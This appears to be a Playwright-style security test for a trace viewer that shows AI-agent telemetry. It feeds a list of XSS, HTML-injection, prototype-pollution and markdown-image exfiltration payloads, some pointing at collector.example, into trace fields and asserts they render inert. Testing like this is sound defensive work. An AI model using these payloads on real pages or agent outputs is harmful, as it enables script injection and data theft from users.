import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { ServerProcess } from "../harness/server-process.ts";
import { until } from "../harness/until.ts";
import { sendAndSee } from "./browser/send.ts";
import { Ui } from "./browser/ui.ts";
import { attributesOf, nanos, TraceBuilder } from "./data/span-builder.ts";

/** What does something where it is taken for more than text; each says by the title of the page that it ran. */
const HOSTILE = [
  `<script>document.title="ran"</script>`,
  `<img src=x onerror="document.title='ran'">`,
  `<svg onload="document.title='ran'"><animate onbegin="document.title='ran'" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>`,
  `<a href="javascript:document.title='ran'">click</a>`,
  `[click](javascript:document.title='ran')`,
  `![](https://collector.example/beacon.png?secret=1)`,
  `<link rel=stylesheet href=https://collector.example/x.css>`,
  `<style>@import "https://collector.example/x.css";*{display:none}</style>`,
  `<base href="https://collector.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://collector.example/">`,
  `<form action="https://collector.example/"><input autofocus onfocus="document.title='ran'">`,
  `"><script>document.title='ran'</script>`,
  `{{constructor.constructor("document.title='ran'")()}}`,
  `\u202Egnp.exe\u0000\u001b]8;;https://collector.example\u0007link`,
  `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`,
] as const;
const ALL = HOSTILE.join("\n");

const trace = new TraceBuilder(Date.now() - 60_000, {
  "session.id": ALL,
  "user.id": HOSTILE[0],
  "test.case.id": HOSTILE[5],
});
const root = trace.add({
  name: `${HOSTILE[0]}${HOSTILE[1]}`,
  service: HOSTILE[2],
  at: 0,
  took: 5000,
  error: ALL,
  attributes: {
    [HOSTILE[0]]: ALL,
    "gen_ai.operation.name": "invoke_agent",
    "gen_ai.agent.name": HOSTILE[1],
    "error.type": HOSTILE[12],
  },
  events: [
    {
      timeUnixNano: nanos(Date.now()),
      name: HOSTILE[1],
      attributes: attributesOf({ "exception.message": ALL, "exception.stacktrace": ALL }),
    },
  ],
  links: [{ traceId: "ab".repeat(16), spanId: "cd".repeat(8), attributes: attributesOf({ why: ALL }) }],
});
const parts = [
  ...HOSTILE.map((content) => ({ type: "text", content })),
  { type: "uri", modality: "image", mime_type: "image/png", uri: "https://collector.example/beacon.png" },
  {
    type: "blob",
    modality: "image",
    mime_type: "image/svg+xml",
    content: Buffer.from(HOSTILE[2]).toString("base64"),
  },
  { type: "tool_call", id: HOSTILE[1], name: HOSTILE[0], arguments: ALL },
];
trace.add({
  name: "chat",
  service: HOSTILE[2],
  at: 10,
  took: 4000,
  parent: root,
  attributes: {
    "gen_ai.operation.name": "chat",
    "gen_ai.request.model": HOSTILE[0],
    "gen_ai.provider.name": HOSTILE[1],
    "gen_ai.system_instructions": JSON.stringify([{ type: "text", content: ALL }]),
    "gen_ai.input.messages": JSON.stringify([{ role: HOSTILE[0], name: HOSTILE[1], parts }]),
    "gen_ai.output.messages": JSON.stringify([{ role: "assistant", parts, finish_reason: HOSTILE[1] }]),
  },
});
trace.add({
  name: "execute_tool",
  service: HOSTILE[2],
  at: 4100,
  took: 500,
  parent: root,
  attributes: {
    "gen_ai.operation.name": "execute_tool",
    "gen_ai.tool.name": HOSTILE[0],
    "gen_ai.tool.call.arguments": ALL,
    "gen_ai.tool.call.result": HOSTILE[15],
  },
});

let server: ServerProcess;

before(async () => {
  server = await ServerProcess.start();
  await sendAndSee(server, trace.traceId, trace.build(), 3);
});

after(() => server[Symbol.asyncDispose]());

/** Elements that the page never makes, and text that left its place. */
const FOREIGN = `[...document.querySelectorAll("#root script, #root iframe, #root style, #root link, #root base, #root meta, #root form, #root object, #root embed, #root [onerror], #root [onload], #root [onfocus]")].map((element) => element.outerHTML)`;
const LINKS = `[...document.querySelectorAll("#root a[href]")].map((link) => link.href).filter((href) => !href.startsWith(location.origin + "/") && !href.startsWith(location.origin + "#"))`;
const IMAGES = `[...document.querySelectorAll("#root img")].map((image) => image.src).filter((src) => !src.endsWith("/icon.svg"))`;

/** Folded parts are made when they are opened. */
const OPEN_ALL = `document.querySelectorAll("aside details").forEach((folded) => { folded.open = true; })`;

async function assertInert(ui: Ui): Promise<void> {
  for (const found of [FOREIGN, LINKS, IMAGES]) assert.deepEqual(await ui.page.evaluate(found), []);
  assert.equal(await ui.page.evaluate("({}).polluted"), undefined);
  assert.doesNotMatch(await ui.page.title(), /^ran/);
}

test("whatever a prompt, a name, an id or an error holds is shown as text and does nothing", async () => {
  await using ui = await Ui.open(server, "/traces");
  const { page } = ui;
  await page.locator("tbody tr").waitFor();
  assert.ok((await page.locator("tbody").textContent())?.includes(HOSTILE[1]));
  await assertInert(ui);
  await page.getByRole("combobox", { name: "Search traces" }).click();
  await page.keyboard.type("session:");
  await page.getByRole("option").first().waitFor();
  await assertInert(ui);
  await ui.press("ArrowDown", "Enter");
  await until("the list of its session", async () => (await page.locator("tbody tr").count()) === 1);
  assert.equal(new URL(page.url()).searchParams.get("session"), ALL);
  await assertInert(ui);

  await page.locator("tbody a[data-row]").click();
  // What one agent says is shown as a conversation first.
  const feed = page.getByRole("feed", { name: "Transcript" });
  await feed.getByText("https://collector.example/beacon.png").first().waitFor();
  const folded = feed.locator("button[aria-expanded=false]");
  while ((await folded.count()) > 0) await folded.first().click();
  await feed
    .getByRole("button", { name: /^Shown as markdown/ })
    .first()
    .focus();
  for (const shown of ["markdown", "plain", "json"]) {
    await assertInert(ui);
    assert.ok((await feed.textContent())?.includes("collector.example"), shown);
    await ui.press("m");
  }
  await ui.press("1");
  await page.getByRole("treegrid").waitFor();
  for (const key of ["Home", "ArrowDown", "ArrowDown"]) {
    await ui.press(key);
    const tabs = page.getByRole("tablist", { name: "Parts of the span" }).getByRole("tab");
    await tabs.first().waitFor();
    for (const tab of await tabs.all()) {
      await tab.click();
      await page.evaluate(OPEN_ALL);
      await assertInert(ui);
    }
    await page.locator("[role=treegrid]").focus();
  }
  await page.getByRole("tab", { name: /Raw/ }).click();
  assert.ok((await page.locator("aside pre").textContent())?.includes("collector.example"));
});

test("an image that a message brings is shown when asked for, one elsewhere never", async () => {
  const pixel =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
  const media = new TraceBuilder(Date.now() - 60_000);
  const content = [
    { type: "blob", modality: "image", mime_type: "image/png", content: pixel },
    { type: "uri", modality: "image", mime_type: "image/png", uri: "https://collector.example/beacon.png" },
  ];
  media.add({
    name: "chat",
    service: "shop",
    at: 0,
    took: 100,
    attributes: {
      "gen_ai.operation.name": "chat",
      "gen_ai.input.messages": JSON.stringify([{ role: "user", parts: content }]),
    },
  });
  await sendAndSee(server, media.traceId, media.build(), 1);
  await using ui = await Ui.open(server, `/traces/${media.traceId}?v=waterfall`);
  const { page } = ui;
  await page.getByText("https://collector.example/beacon.png").waitFor();
  assert.equal(await page.locator("aside img").count(), 0);
  await page.getByRole("button", { name: /Show image/ }).click();
  await until("the picture", () => page.evaluate(`document.querySelector("aside img").naturalWidth === 1`));
});
